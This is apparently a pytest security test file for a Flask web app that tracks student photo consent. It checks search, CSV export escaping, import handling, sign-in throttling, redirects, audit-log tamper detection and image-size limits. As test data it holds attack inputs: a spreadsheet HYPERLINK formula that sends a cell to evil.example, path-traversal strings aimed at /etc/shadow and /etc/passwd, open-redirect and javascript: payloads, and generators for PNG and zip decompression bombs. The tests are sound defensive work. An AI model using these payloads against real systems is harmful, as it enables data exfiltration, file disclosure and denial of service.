"""The workspace tried as an officer in a hurry and as an attacker would (Flask's test
client): search as people type names, spreadsheet-safe exports, an import that never reads
the server's files, sign-in that cannot lock the office out, an audit log that says when it
is broken, pixel and memory limits, and messages without internals."""

from __future__ import annotations

import csv
import html as html_lib
import io
import sqlite3
import struct
import zipfile
import zlib
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

import numpy as np
import pytest
from consent_office import accounts as accounts_module
from consent_office.accounts import (
    FREE_FAILURES,
    MAX_DELAY,
    AccountError,
    Accounts,
    office_db_path,
    password_problem,
)
from consent_registry.csv_files import csv_text, read_table, safe_cell
from consent_registry.registry import Registry
from face_engine import faces

from tests.consent_office.conftest import PASSWORD, VIEWER_PASSWORD, csrf_of, sign_in


def template(seed: int) -> np.ndarray:
    return np.random.default_rng(seed).normal(0, 0.1, 128)


def add(office, person_id: str, name: str, seed: int, **extra) -> None:
    with Registry.open(office.registry, office.key_file) as registry:
        registry.add(person_id, name, [template(seed)], actor="test set-up", **extra)


def audit_entries(office) -> list:
    with Registry.open(office.registry, office.key_file) as registry:
        return registry.audit_log()


@pytest.fixture
def seeded_faces(monkeypatch):
    """A reference "photo" is the text of a number: one face whose template it seeds."""

    def reference_templates(data: bytes, source: str = "", *, face=None):
        try:
            return [template(int(data))]
        except ValueError:
            raise faces.FaceError(f"no face found in {source}") from None

    monkeypatch.setattr(faces, "reference_templates", reference_templates)


# ---------------------------------------------------------------- search


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("Nunez", {"S1"}),
        ("núñez", {"S1"}),
        ("NUNEZ ines", {"S1"}),
        ("Ines Nunez", {"S1"}),
        ("OBrien", {"S2"}),
        ("O’Brien", {"S2"}),
        ("o brien", {"S2"}),
        ("o'brien sean", {"S2"}),
        ("Rose Leslie", {"S3"}),
        ("leslie, rose", {"S3"}),
        ("smith jones", {"S4"}),
        ("Smith-Jones", {"S4"}),
        ("s2", {"S2"}),
        ("grade 5", {"S1", "S3"}),
        ("K", {"S4"}),
        ("grade 5 rose", {"S3"}),
        ("zzz", set()),
    ],
)
def test_search_finds_people_as_they_are_typed(client, office, query, found):
    add(office, "S1", "Inés Núñez", 1, grade="5")
    add(office, "S2", "Seán O'Brien", 2, grade="6")
    add(office, "S3", "Rose Leslie", 3, grade="5")
    add(office, "S4", "Mary Smith-Jones", 4, grade="K")
    sign_in(client)
    html = client.get("/records", query_string={"q": query}).get_data(as_text=True)
    shown = {pid for pid in ("S1", "S2", "S3", "S4") if f'/records/{pid}"' in html}
    assert shown == found


# ---------------------------------------------------------------- CSV files


def test_every_formula_start_is_made_text():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Zoë") == "Zoë" and safe_cell(None) == "" and safe_cell(7) == "7"
    rows = list(csv.reader(io.StringIO(csv_text(["a"], [["=HYPERLINK(1)"]], bom=False))))
    assert rows == [["a"], ["'=HYPERLINK(1)"]]


def test_exports_cannot_run_formulas_in_a_spreadsheet(client, office):
    soon = date.today() + timedelta(days=5)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    add(office, "S1", evil, 1, grade="+1", expires=soon)
    add(office, "S2", "@SUM(A1:A9)", 2, grade="-3", expires=soon)
    sign_in(client)
    text = client.get("/expiring.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["S1", "'" + evil, "'+1", soon.isoformat()]
    assert rows[2] == ["S2", "'@SUM(A1:A9)", "'-3", soon.isoformat()]
    audit = list(csv.reader(io.StringIO(client.get("/audit.csv").get_data(as_text=True)[1:])))
    for row in audit:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_only_one_csv_writer_in_the_project():
    """Every CSV the project writes goes through csv_files.csv_text."""
    from tests.conftest import ROOT

    writers = [
        path.relative_to(ROOT)
        for folder in ("lib", "plugins", "apps", "tools")
        for path in (ROOT / folder).rglob("*.py")
        if "csv.writer" in path.read_text(encoding="utf-8")
        or "csv.DictWriter" in path.read_text(encoding="utf-8")
    ]
    assert [str(p) for p in writers] == ["lib/consent_registry/csv_files.py"]


def test_one_reader_sniffs_semicolons_and_encodings():
    text = "Student_Number;LastFirst;Photo Release\nS1;Núñez, Inés;Y\n"
    for raw in (text.encode("utf-8"), text.encode("cp1252"), text.encode("utf-16")):
        table = read_table(raw)
        assert table.delimiter == ";"
        assert table.header == ["Student_Number", "LastFirst", "Photo Release"]
        assert table.rows == [(2, ["S1", "Núñez, Inés", "Y"])]


# ---------------------------------------------------------------- import


def post_import(client, text: str | bytes, photos=(), name: str = "sis.csv"):
    token = csrf_of(client.get("/import").get_data(as_text=True))
    raw = text.encode("utf-8") if isinstance(text, str) else text
    data = {"csrf_token": token, "csv": (io.BytesIO(raw), name)}
    data["photos"] = [(io.BytesIO(content), filename) for filename, content in photos]
    return client.post("/import", data=data, content_type="multipart/form-data")


def apply_import(client, preview_html: str):
    token = csrf_of(preview_html)
    target = preview_html.split('action="/import/', 1)[1].split('"', 1)[0]
    return client.post(f"/import/{target}", data={"csrf_token": token})


def test_an_import_never_opens_a_path_on_the_server(client, office, seeded_faces, tmp_path):
    outside = tmp_path / "outside.jpg"  # a real file outside content/, readable by the server
    outside.write_bytes(b"7")
    add(office, "S9", "Rita Moreno", 9)
    sign_in(client)
    messages = {}
    for cell in (
        "/etc/shadow",
        "../../../../etc/passwd",
        "/no/such/folder/photo.jpg",
        str(outside),
        "C:\\Windows\\win.ini",
        "..\\..\\secret.jpg",
    ):
        text = f"Student_Number,Name,Photo Release,Photo\nS9,Rita Moreno,Y,{cell}\n"
        response = post_import(client, text)
        html = response.get_data(as_text=True)
        assert response.status_code == 400, html
        assert "is a path on the server, which the workspace never opens" in html, cell
        assert "not found" not in html and "could not be read" not in html
        messages[cell] = html.replace(cell.replace("\\", "\\\\"), "").replace(cell, "")
    # Whether the file exists or not, the page is the same: no file-existence test.
    assert messages["/etc/shadow"] == messages["/no/such/folder/photo.jpg"]
    with Registry.open(office.registry, office.key_file) as registry:
        assert registry.get("S9").templates == 1  # no server image became an update


def test_import_photos_are_uploads_matched_by_file_name(client, office, seeded_faces):
    add(office, "S1", "Ana Gomez", 1, grade="4")
    sign_in(client)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("photos/ana-new.JPG", b"11")
        z.writestr("S2/front.jpg", b"12")  # a folder named after the id
        z.writestr("__MACOSX/photos/._ana-new.JPG", b"junk")
    text = (
        "Student_Number;LastFirst;Grade_Level;Photo Release;Photo\n"
        "S1;Gómez, Ana;5;Y;ana-new.jpg\n"
        "S2;Lee, Bo;3;Y;\n"
        "S3;Kim, Su;3;Y;missing.jpg\n"
    )
    missing = post_import(client, text, [("photos.zip", archive.getvalue())])
    html = html_lib.unescape(missing.text)
    assert missing.status_code == 400
    assert "photo 'missing.jpg' is not among the uploaded photos" in html
    text = text.replace("S3;Kim, Su;3;Y;missing.jpg\n", "")
    preview = post_import(client, text, [("photos.zip", archive.getvalue())])
    html = preview.text
    assert preview.status_code == 200, html
    assert "separated by semicolons" in html  # the workspace sniffs like the command
    assert "update: name" in html and "Ana Gomez" in html and "Ana Gómez" in html
    assert "update: grade" in html and ">4<" in html and ">5<" in html
    applied = apply_import(client, html)
    assert applied.status_code == 303
    with Registry.open(office.registry, office.key_file) as registry:
        ana, bo = registry.get("S1"), registry.get("S2")
    assert (ana.name, ana.grade, bo.name) == ("Ana Gómez", "5", "Bo Lee")


def test_import_preview_lists_withdrawals_first(client, office, seeded_faces):
    for n in range(1, 41):
        add(office, f"S{n}", f"Student {n}", n)
    sign_in(client)
    lines = ["Student_Number,Name,Photo Release"]
    lines += [f"S{n},Student {n}{' Renamed' if n == 2 else ''},{'N' if n in (7, 23, 39) else 'Y'}"
              for n in range(1, 41)]  # fmt: skip
    html = post_import(client, "\n".join(lines) + "\n").get_data(as_text=True)
    assert "3 withdrawals of consent" in html
    table = html.split("<tbody>", 1)[1]
    first_rows = [table.find(f"(S{n})") for n in (7, 23, 39)]
    assert max(first_rows) < table.find("(S2)")  # before any other change
    assert "withdraw consent: consent" in html and "Student 2 Renamed" in html


def test_import_messages_name_the_upload_not_a_temp_file(client, office, seeded_faces):
    sign_in(client)
    text = "Student_Number,Name,Photo Release,Photo\nS5,Bad Photo,Y,bad.jpg\n"
    html = post_import(client, text, [("bad.jpg", b"not a photo")], name="export.csv").get_data(
        as_text=True
    )
    assert "no face found in bad.jpg" in html
    assert "/tmp" not in html and "consent-import-" not in html and "_io." not in html


def test_a_bad_photo_message_shows_no_internals(client, office):
    sign_in(client)
    token = csrf_of(client.get("/records/new").get_data(as_text=True))
    data = {
        "csrf_token": token,
        "person_id": "S1",
        "name": "A Student",
        "role": "student",
        "scopes": "website",
        "photos": (io.BytesIO(b"this is not an image"), "scan.jpg"),
    }
    step = client.post("/records/new", data=data, content_type="multipart/form-data")
    html = client.get(step.headers["Location"]).get_data(as_text=True) if step.location else ""
    html += step.get_data(as_text=True)
    assert "scan.jpg could not be read as an image" in html
    assert "_io.BytesIO" not in html and " at 0x" not in html


def test_pending_uploads_are_capped_per_user(client, office, seeded_faces):
    from consent_office.web import MAX_PENDING_UPLOADS, Upload, UploadStore

    store = UploadStore()
    now = datetime.now(UTC)
    tokens = [store.put(Upload("a", now, [("p.jpg", b"x" * 10)])) for _ in range(10)]
    other = store.put(Upload("b", now, [("p.jpg", b"x")]))
    assert [store.get(t, "a") is not None for t in tokens] == [False] * (
        10 - MAX_PENDING_UPLOADS
    ) + [True] * MAX_PENDING_UPLOADS
    assert store.get(other, "b") is not None  # another user's upload is untouched
    # Through the import page too: the oldest previews are gone, the latest still apply.
    sign_in(client)
    previews = [
        post_import(client, "Student_Number,Name,Photo Release\nS1,A B,N\n").text
        for _ in range(MAX_PENDING_UPLOADS + 1)
    ]
    assert apply_import(client, previews[0]).status_code == 404
    assert apply_import(client, previews[-1]).status_code == 303


# ---------------------------------------------------------------- sign-in


def test_a_guesser_elsewhere_cannot_lock_the_officer_out(client, office):
    attacker = {"REMOTE_ADDR": "203.0.113.9"}
    for _ in range(FREE_FAILURES + 5):
        page = client.get("/login", environ_base=attacker)
        client.post(
            "/login",
            data={"name": "m.chen", "password": "guess guess guess", "csrf_token": csrf_of(
                page.get_data(as_text=True))},
            environ_base=attacker,
        )  # fmt: skip
    # The attacker's own address waits, even with the right password...
    page = client.get("/login", environ_base=attacker)
    refused = client.post(
        "/login",
        data={"name": "m.chen", "password": PASSWORD, "csrf_token": csrf_of(page.text)},
        environ_base=attacker,
    )
    assert refused.status_code == 429 and "wait" in refused.text
    # ...while the officer at their own computer signs in at once.
    assert sign_in(client).status_code == 303


def test_delays_grow_and_a_success_clears_them(office, monkeypatch):
    clock = [datetime(2026, 12, 7, 9, 0, tzinfo=UTC)]
    monkeypatch.setattr(accounts_module, "_now", lambda: clock[0])
    TooMany = accounts_module.TooManyAttempts
    with Accounts(office_db_path(office.registry)) as accounts:

        def guess() -> timedelta | None:
            """One wrong guess from the attacker's address: None when checked (and
            failed), else the wait it was refused with."""
            try:
                accounts.sign_in("m.chen", "wrong guess here", "198.51.100.7")
            except TooMany as exc:
                return exc.wait
            except AccountError:
                return None
            raise AssertionError("a wrong password signed in")

        checked, waits = 0, []
        while len(waits) < 12:
            wait = guess()
            if wait is None:
                checked += 1
            else:
                waits.append(wait)
                clock[0] += wait  # the attacker waits it out, then guesses again
        assert checked == FREE_FAILURES + len(waits) - 1
        assert waits[0] == timedelta(seconds=1) and waits == sorted(waits)
        assert waits[-1] == MAX_DELAY  # growing, then capped rather than locked for good
        # While waiting, even the right password is refused without being checked.
        assert guess() is None and isinstance(guess(), timedelta)
        with pytest.raises(TooMany):
            accounts.sign_in("m.chen", PASSWORD, "198.51.100.7")
        # The officer elsewhere is not slowed at all.
        accounts.sign_in("m.chen", PASSWORD, "192.0.2.10")
        # After the wait, a success clears the pair's count: the next failure costs nothing.
        clock[0] += MAX_DELAY
        accounts.sign_in("m.chen", PASSWORD, "198.51.100.7")
        assert guess() is None and guess() is None
        accounts.sign_in("m.chen", PASSWORD, "198.51.100.7")


def test_x_forwarded_for_is_not_trusted_without_a_configured_proxy(client, office):
    add(office, "S1", "A Student", 1)
    for _ in range(FREE_FAILURES + 2):
        page = client.get("/login")
        client.post(
            "/login",
            data={"name": "m.chen", "password": "wrong guess here",
                  "csrf_token": csrf_of(page.text)},
            headers={"X-Forwarded-For": "198.51.100.1"},
        )  # fmt: skip
    # A new forged address does not start a fresh count: the real address still waits.
    page = client.get("/login")
    again = client.post(
        "/login",
        data={"name": "m.chen", "password": PASSWORD, "csrf_token": csrf_of(page.text)},
        headers={"X-Forwarded-For": "192.0.2.55"},
    )
    assert again.status_code == 429
    failed = [e for e in audit_entries(office) if e.action == "sign-in-failed"]
    assert failed and all(e.details["address"] == "127.0.0.1" for e in failed)


def test_the_configured_proxy_says_the_address(office):
    """Through waitress (as `consent serve` runs): X-Forwarded-For counts only from the
    proxy named in CONSENT_OFFICE_TRUSTED_PROXY."""
    import urllib.parse
    import urllib.request

    from tests.consent_office.conftest import serving

    def failed_sign_in(url: str, forwarded: str) -> None:
        opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor())
        page = opener.open(url + "/login").read().decode()
        body = urllib.parse.urlencode(
            {"name": "m.chen", "password": "wrong guess here", "csrf_token": csrf_of(page)}
        ).encode()
        request = urllib.request.Request(
            url + "/login", data=body, headers={"X-Forwarded-For": forwarded}
        )
        with pytest.raises(urllib.error.HTTPError):
            opener.open(request)

    add(office, "S1", "A Student", 1)
    with serving(office.settings) as url:
        failed_sign_in(url, "198.51.100.1")
    with serving(replace(office.settings, trusted_proxy="127.0.0.1")) as url:
        failed_sign_in(url, "198.51.100.2")
    failed = [e for e in audit_entries(office) if e.action == "sign-in-failed"]
    addresses = [e.details["address"] for e in failed]
    assert addresses == ["127.0.0.1", "198.51.100.2"]


@pytest.mark.parametrize(
    "password",
    ["password12", "Password2026!", "qwertyuiop", "m.chen2026!", "chenchenchen", "aaaaaaaaaaaa"],
)
def test_common_and_name_like_passwords_are_refused(office, password):
    assert password_problem("m.chen", password)
    with Accounts(office_db_path(office.registry)) as accounts, pytest.raises(AccountError):
        accounts.add_user("m.chen", "office", password, replace=True)


def test_good_passwords_are_accepted():
    for password in (PASSWORD, VIEWER_PASSWORD, "a long enough secret", "Brick tulip 48 ferry"):
        assert password_problem("m.chen", password) is None, password


def test_a_huge_password_is_refused_before_hashing(client, office, monkeypatch):
    assert "too long" in password_problem("m.chen", "x" * 1025)
    hashed = []
    real = accounts_module._hasher

    class Spy:
        def verify(self, stored, password):
            hashed.append(len(password))
            return real.verify(stored, password)

        def __getattr__(self, name):
            return getattr(real, name)

    monkeypatch.setattr(accounts_module, "_hasher", Spy())
    page = client.get("/login")
    response = client.post(
        "/login",
        data={"name": "m.chen", "password": "y" * 10_000_000, "csrf_token": csrf_of(page.text)},
    )
    assert response.status_code == 401 and hashed == []
    assert sign_in(client).status_code == 303 and hashed  # an ordinary one is checked


def test_a_sign_in_ends_the_browsers_previous_session(client, office):
    from flask.testing import FlaskClient

    assert sign_in(client).status_code == 303
    first = client.get_cookie("office_session").value
    # The viewer signs in in the same browser (a sign-in form left open in another tab).
    login = client.get("/login", follow_redirects=False)
    assert login.status_code == 303  # signed in: /login sends home
    client.set_cookie("office_login_csrf", "tok")
    response = client.post(
        "/login", data={"name": "v.iewer", "password": VIEWER_PASSWORD, "csrf_token": "tok"}
    )
    assert response.status_code == 303
    assert client.get_cookie("office_session").value != first
    other: FlaskClient = client.application.test_client()
    other.set_cookie("office_session", first)
    gone = other.get("/records")
    assert gone.status_code == 303 and "/login" in gone.headers["Location"]


def test_only_allowed_host_names_are_answered(client, office):
    assert client.get("/login", headers={"Host": "evil.example"}).status_code == 400
    assert client.get("/login", headers={"Host": "localhost:8001"}).status_code == 200
    assert client.get("/login", headers={"Host": "127.0.0.1:8001"}).status_code == 200


def test_hsts_only_over_https(office):
    from consent_office.app import create_app

    plain = create_app(office.settings).test_client().get("/login")
    assert "Strict-Transport-Security" not in plain.headers
    secure = create_app(replace(office.settings, https=True)).test_client()
    assert secure.get("/login").headers["Strict-Transport-Security"].startswith("max-age=")


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example",
        "/\t/evil.example",
        "/\n/evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "/\\/evil.example",
        "https://evil.example/",
        " //evil.example",
        "/%0d/",
        "javascript:alert(1)",
    ],
)
def test_next_never_leaves_the_workspace(client, office, target):
    page = client.get("/login", query_string={"next": target})
    response = client.post(
        "/login",
        data={"name": "m.chen", "password": PASSWORD, "csrf_token": csrf_of(page.text),
              "next": target},
    )  # fmt: skip
    assert response.status_code == 303
    location = response.headers["Location"]
    assert location in ("/", "/%0d/"), location


def test_next_keeps_a_page_of_the_workspace(client, office):
    page = client.get("/login", query_string={"next": "/records?q=a+b"})
    response = client.post(
        "/login",
        data={"name": "m.chen", "password": PASSWORD, "csrf_token": csrf_of(page.text),
              "next": "/records?q=a+b"},
    )  # fmt: skip
    assert response.headers["Location"] == "/records?q=a+b"


# ---------------------------------------------------------------- audit


def test_sign_ins_sign_outs_and_exports_are_audited_with_the_address(client, office):
    add(office, "S1", "A Student", 1)
    assert sign_in(client, password="wrong guess here").status_code == 401
    assert sign_in(client).status_code == 303
    client.get("/expiring.csv")
    client.get("/audit.csv")
    token = csrf_of(client.get("/").text)
    client.post("/logout", data={"csrf_token": token})
    events = [
        (e.action, e.actor, e.details.get("address"), e.details.get("file"))
        for e in audit_entries(office)
        if e.action not in ("add", "create")
    ]
    assert events[-5:] == [
        ("sign-in-failed", "m.chen", "127.0.0.1", None),
        ("sign-in", "m.chen", "127.0.0.1", None),
        ("export", "m.chen", "127.0.0.1", "consent-expiring.csv"),
        ("export", "m.chen", "127.0.0.1", "consent-audit-log.csv"),
        ("sign-out", "m.chen", "127.0.0.1", None),
    ]
    with Registry.open(office.registry, office.key_file) as registry:
        assert registry.verify_audit() == []


def test_a_row_inserted_with_plain_sqlite_is_never_shown_as_genuine(client, office):
    add(office, "S1", "A Student", 1)
    sign_in(client)
    home = client.get("/").text
    assert "the chain is intact" in home
    with sqlite3.connect(office.registry) as db:
        db.execute(
            "INSERT INTO audit (at, actor, action, person_id, details, hash) "
            "VALUES ('2026-01-01T00:00:00+00:00', 'principal', 'approve', 'S1', '{}', NULL)"
        )
    db.close()
    home = client.get("/").text
    assert "The audit log is not intact" in home and "the chain is intact" not in home
    audit = client.get("/audit").text
    assert "Audit log: not intact" in audit and "cannot be trusted" in audit
    rows = list(csv.reader(io.StringIO(client.get("/audit.csv").text.lstrip("\ufeff"))))
    assert rows[1][0] == "NOT INTACT"


def test_times_are_shown_in_the_schools_time_zone(office):
    from consent_office.app import create_app

    settings = replace(office.settings, timezone="America/Chicago")
    client = create_app(settings).test_client()
    add(office, "S1", "A Student", 1)
    sign_in(client)
    audit = client.get("/audit").text
    assert " CST<" in audit and " UTC<" not in audit and "When (UTC)" not in audit
    at = audit_entries(office)[0].at.astimezone(settings.zone)
    assert at.strftime("%Y-%m-%d %H:%M") in audit
    record = client.get("/records/S1").text  # the record's history too
    assert at.strftime("%Y-%m-%d %H:%M CST") in record and " UTC," not in record


# ---------------------------------------------------------------- decoding limits


def bomb_png(side: int = 12_500) -> bytes:
    """A 1-bit PNG of side x side pixels in about 20 KB (156 million pixels)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" + bytes((side + 7) // 8)
    pixels = zlib.compress(row * side, 9)
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


# Pillow warns on the 156-megapixel image before the engine's own limit refuses it.
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_thumbnails_keep_the_face_engines_pixel_limit(client, office):
    import hashlib
    import json

    from consent_office.photos import thumbnail
    from face_engine.imaging import ImageTooLarge

    data = bomb_png()
    assert len(data) < 40_000
    with pytest.raises(ImageTooLarge):
        thumbnail(data, [])
    photo = office.content / "images" / "bomb.png"
    photo.parent.mkdir(parents=True)
    photo.write_bytes(data)
    sha = hashlib.sha256(data).hexdigest()
    office.report.parent.mkdir(parents=True)
    office.report.write_text(
        json.dumps(
            {
                "generated_at": "2026-11-26T06:00:00+00:00",
                "images": [
                    {"output_path": "images/bomb.png", "path": "images/bomb.png", "sha256": sha,
                     "verdict": "withhold", "faces": [], "reasons": ["could not be checked"],
                     "pages": []}
                ],
            }
        )
    )  # fmt: skip
    sign_in(client)
    assert client.get(f"/thumb/{sha}").status_code == 404


def test_a_zip_that_unpacks_too_far_is_refused(client, office, seeded_faces):
    from consent_office.imports import MAX_UNPACKED

    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("big.jpg", bytes(MAX_UNPACKED + 1))
    assert len(archive.getvalue()) < 200_000
    sign_in(client)
    response = post_import(
        client, "Student_Number,Name,Photo Release\nS1,A B,N\n", [("p.zip", archive.getvalue())]
    )
    assert response.status_code == 400 and "unpacks to" in response.text


# ---------------------------------------------------------------- dates, small faces


def test_dates_are_typed_and_shown_as_yyyy_mm_dd(client, office):
    ends = date.today() + timedelta(days=200)
    add(office, "S1", "A Student", 1, expires=ends)
    sign_in(client)
    form = client.get("/records/S1/edit").text
    expires = form.split('id="expires"', 1)[1].split(">", 1)[0]
    # A date input shows the browser's locale (mm/dd/yyyy in en-US) under a YYYY-MM-DD label.
    assert 'type="date"' not in expires and f'value="{ends.isoformat()}"' in expires
    assert "YYYY-MM-DD" in form


def small_face_photo() -> tuple[bytes, dict]:
    """A 1,200 x 900 photo, white but for a 9-pixel red "face" at (600, 400)."""
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (1200, 900), "white")
    ImageDraw.Draw(image).rectangle((600, 400, 608, 408), fill=(220, 0, 0))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue(), {"top": 400, "right": 609, "bottom": 409, "left": 600}


def test_a_face_too_small_to_check_is_shown_enlarged(client, office):
    import hashlib
    import json

    from PIL import Image

    data, box = small_face_photo()
    photo = office.content / "images" / "assembly.png"
    photo.parent.mkdir(parents=True)
    photo.write_bytes(data)
    sha = hashlib.sha256(data).hexdigest()
    office.report.parent.mkdir(parents=True)
    face = {"box": box, "person_id": None, "ok": False,
            "reason": "face too small/blurred to match (9 px, under 20 px)"}  # fmt: skip
    office.report.write_text(
        json.dumps(
            {
                "generated_at": "2026-11-26T06:00:00+00:00",
                "images": [
                    {"output_path": "images/assembly.png", "path": "images/assembly.png",
                     "sha256": sha, "verdict": "withhold", "faces": [face],
                     "reasons": ["face too small"], "pages": ["news/index.html"]}
                ],
            }
        )
    )  # fmt: skip
    assert client.get(f"/thumb/{sha}/face/1").status_code == 401  # signed in only
    sign_in(client)
    review = client.get("/review").text
    assert f'src="/thumb/{sha}/face/1"' in review
    crop = client.get(f"/thumb/{sha}/face/1")
    assert crop.status_code == 200 and crop.mimetype == "image/jpeg"
    with Image.open(io.BytesIO(crop.data)) as shown:
        assert shown.size[0] >= 150  # 9 pixels become a face the office can look at
        red, green, _ = shown.convert("RGB").getpixel((shown.width // 2, shown.height // 2))
    assert red > 150 and green < 80  # the face itself is in the middle
    assert client.get(f"/thumb/{sha}/face/2").status_code == 404


def test_the_workspace_reads_the_sites_timezone_through_the_one_rule():
    from consent_office.settings import OfficeSettings
    from consent_registry.settings import SettingsError

    assert OfficeSettings.from_mapping({"TIMEZONE": "America/Chicago"}).timezone == (
        "America/Chicago"
    )
    assert OfficeSettings.from_mapping({}).timezone == "UTC"
    with pytest.raises(SettingsError):
        OfficeSettings.from_mapping({"TIMEZONE": "Mars/Olympus_Mons"})
